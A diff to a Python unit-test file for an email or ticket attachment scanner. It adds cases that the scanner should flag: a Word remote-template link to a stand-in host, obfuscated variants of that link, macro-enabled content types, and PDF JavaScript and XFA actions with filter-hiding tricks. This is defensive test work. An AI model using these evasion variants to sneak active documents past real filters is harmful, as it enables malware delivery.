@@ -18,6 +18,21 @@ from tests.tickets.files import GOOD, ODT, PARTS, PDF, TEXT, archive, docx, m4a,
 pytestmark = pytest.mark.unit
 
 FETCHED = '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm"/>'
+#: The same, as it could be hidden from who looks for it.
+TEMPLATES = (
+    FETCHED.replace('"', "'"),
+    FETCHED.replace("https:", "&#104;ttps:"),
+    FETCHED.replace("attached", "&#97;ttached"),
+    FETCHED.replace("https:", "\\\\"),
+    FETCHED.replace("https:", "file:"),
+    FETCHED.encode("utf-16"),
+)
+MACROS = '<Types><Override ContentType="x.macro&#69;nabled.main+xml"/></Types>'
+#: How what is packed in a PDF could be hidden from who looks for it.
+HIDES = (
+    *(b" " * 600 + b"/Filter", b"/A % endobj\n/Filter", b"/A (1 0 obj <<)/Filter"),
+    *(b"/DecodeParms 5 0 R/Filter", b"/DecodeParms[<</Predictor 12>>]/Filter"),
+)
 SCRIPT = b"/S /JavaScript /JS (app.alert(1))"
 
 
@@ -81,6 +96,9 @@ def test_each_kind_that_is_taken(kept: Attachments, name: str) -> None:
         ("umowa.pdf", pdf(SCRIPT).replace(b"Flate", b"LZW"), Why.ACTIVE),
         ("umowa.pdf", pdf(b"").replace(b"/Flate", b"/Predictor 12/Flate"), Why.DAMAGED),
         ("umowa.pdf", pdf(bytes(60_000_000)), Why.BOMB),
+        ("umowa.pdf", PDF.replace(b"/Type", b"/S/Rendition/JS(app.alert(1))/Type"), Why.ACTIVE),
+        ("umowa.pdf", PDF.replace(b"/Type", b"/XFA [(form) 5 0 R]/Type"), Why.ACTIVE),
+        *(("umowa.pdf", pdf(SCRIPT).replace(b"/Filter", hides), Why.DAMAGED) for hides in HIDES),
         ("umowa.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), Why.ENCRYPTED),
         ("kran.png", picture("JPEG"), Why.OTHER),
         ("kran.png", picture()[:-30], Why.DAMAGED),
@@ -100,7 +118,12 @@ def test_each_kind_that_is_taken(kept: Attachments, name: str) -> None:
         ("pismo.docx", docx(**{"word__inside.dat": odt()}), Why.ACTIVE),
         ("pismo.docx", docx(word__x__rels__a="").replace(b"word/x", b"../..x"), Why.OTHER),
         ("pismo.docx", docx(word___rels__settings="", **{"a.rels": FETCHED}), Why.ACTIVE),
-        ("pismo.docx", docx(**{"[Content_Types].xml": "macroEnabled.main+xml"}), Why.ACTIVE),
+        *(("pismo.docx", docx(**{"a.rels": one}), Why.ACTIVE) for one in TEMPLATES),
+        ("pismo.docx", docx(**{"[Content_Types].xml": MACROS}), Why.ACTIVE),
+        ("pismo.docx", docx(**{"[Content_Types].xml": MACROS.encode("utf-16")}), Why.ACTIVE),
+        ("pismo.docx", docx(**{"[Content_Types].xml": "<Types"}), Why.DAMAGED),
+        ("pismo.odt", odt(**{"content.xml": "<a xmlns:x='s'><x:event-listener/></a>"}), Why.ACTIVE),
+        ("pismo.docx", docx(**{"word__x.xml": "<event-listener/>".encode("utf-16")}), Why.DAMAGED),
         ("pismo.docx", docx(word__zeros=bytes(20_000_000)), Why.BOMB),
         ("pismo.odt", odt(Basic__Standard__m="Sub Main"), Why.ACTIVE),
         ("pismo.odt", odt(**{"META-INF__manifest.xml": "<encryption-data/>"}), Why.ENCRYPTED),
